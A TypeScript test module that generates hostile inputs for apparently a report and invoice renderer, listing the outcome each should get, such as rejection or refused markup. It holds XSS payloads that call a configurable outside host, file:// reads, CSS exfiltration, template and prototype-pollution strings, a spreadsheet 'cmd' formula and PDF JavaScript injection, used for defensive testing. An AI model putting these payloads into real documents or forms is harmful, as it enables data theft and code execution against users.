import type { Attack, HonestView, Targets } from "./attack.ts";

type Person = Readonly<Record<string, unknown>>;

function named(view: HonestView, name: string): unknown {
  const employee = Object(view["employee"]) as Person;
  const recipient = Object(view["recipient"]) as Person;
  return { ...view, employee: { ...employee, name }, recipient: { ...recipient, name } };
}

/** What somebody types where a name belongs, given to reports of our own. */
export function attacksByData({ host, file }: Targets): readonly Attack[] {
  const at = `http://${host}/data`;
  const names = [
    `<script>fetch("${at}")</script>`,
    `"><img src="${at}" onerror="fetch('${at}')">`,
    `'><svg onload=fetch('${at}')>`,
    `</p></main></body><iframe src="${at}"></iframe>`,
    `<iframe src="file://${file}"></iframe>`,
    `</title><script>fetch("${at}")</script>`,
    `</style><style>*{background:url(${at})}</style>`,
    `<meta http-equiv="refresh" content="0;url=${at}">`,
    `<link rel="stylesheet" href="${at}">`,
    `<base href="${at}/">`,
    `<object data="${at}"></object><embed src="${at}">`,
    `<!-- <img src="${at}">`,
    `]]><img src="${at}">`,
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{constructor.constructor('return process')()}} \u0024{process.env} <%= 1 %> #{7*7}",
    "`\u0024{fetch}`",
    "__proto__",
    "\u202etiw ed rooN\u202c \u200b\u2066x\u2069",
    "=cmd|'/c calc'!A1",
    "(a) Tj ET Q /JS (app.alert(1)) >> endobj",
  ];
  const everyone = names.map(
    (name): Attack => ({
      area: "data",
      name: `a client called ${name}`,
      given: { plugin: "evaluation", view: (view) => named(view, name) },
      ends: ["printed"],
    }),
  );
  const references = [
    `"}@page{background:url(${at})}`,
    String.raw`\22 }@page{background:url(${at})}`,
    `</style><img src="${at}">`,
    "*/ url(x) /*",
  ];
  return [
    ...everyone,
    ...references.map(
      (reference): Attack => ({
        area: "data",
        name: `a reference in every margin: ${reference}`,
        given: { plugin: "evaluation", view: (view) => ({ ...view, document: { ...view.document, reference } }) },
        ends: ["printed", "view-invalid"],
      }),
    ),
    ...letterheads(at, file),
    ...shapes(),
  ];
}

/** A letterhead is the practice's own, and practices can be taken over. */
function letterheads(at: string, file: string): Attack[] {
  const of = (name: string, changed: Readonly<Record<string, unknown>>): Attack => ({
    area: "data",
    name,
    given: { plugin: "invoice", view: (view) => ({ ...view, letterhead: { ...view.letterhead, ...changed } }) },
    ends: ["view-invalid", "markup-refused", "printed"],
  });
  const svg = (content: string) =>
    `data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg">${content}</svg>`).toString("base64")}`;
  return [
    of("a colour that is more than a colour", { accent: `#fff;background:url(${at})` }),
    of("a logo elsewhere", { logo: at }),
    of("a logo that is a file", { logo: `file://${file}` }),
    of("a logo that is a page", { logo: "data:text/html;base64,PHNjcmlwdD4=" }),
    of("a logo with a script", { logo: svg(`<script>fetch("${at}")</script>`) }),
    of("a logo with a picture elsewhere", { logo: svg(`<image href="${at}" width="9" height="9"/>`) }),
    of("a footer that is markup", { footer: `<script>fetch("${at}")</script>` }),
    of("an address that is a script", { website: `javascript:fetch("${at}")` }),
  ];
}

/** Data of another shape than the view has. */
function shapes(): Attack[] {
  const of = (name: string, view: (honest: HonestView) => unknown, ends: Attack["ends"], options?: unknown): Attack => ({
    area: "data",
    name,
    given: { plugin: "evaluation", view, options },
    ends,
  });
  return [
    of("a prototype among the fields", (view) => JSON.parse(JSON.stringify(view).replace("{", '{"__proto__":{"admin":true},')), [
      "view-invalid",
    ]),
    of("a field of another reader", (view) => ({ ...view, scores: [71] }), ["view-invalid"]),
    of("an options prototype", (view) => view, ["options-invalid", "printed"], JSON.parse('{"__proto__":{"x":1}}')),
    of("an option that nobody asked for", (view) => view, ["options-invalid"], { constructor: "x" }),
    of("a NUL in a name", (view) => named(view, "No\u0000or"), ["view-text-broken", "view-invalid"]),
    of("half a character in a name", (view) => named(view, "Noor \ud83d"), ["view-text-broken", "view-invalid"]),
    of("a name of six million letters", (view) => named(view, "x".repeat(6_000_000)), ["view-too-large", "view-invalid"]),
    of("a number where a text belongs", (view) => ({ ...view, employee: 7 }), ["view-invalid"]),
    of("no data at all", () => undefined, ["view-invalid", "view-audience-differs"]),
  ];
}
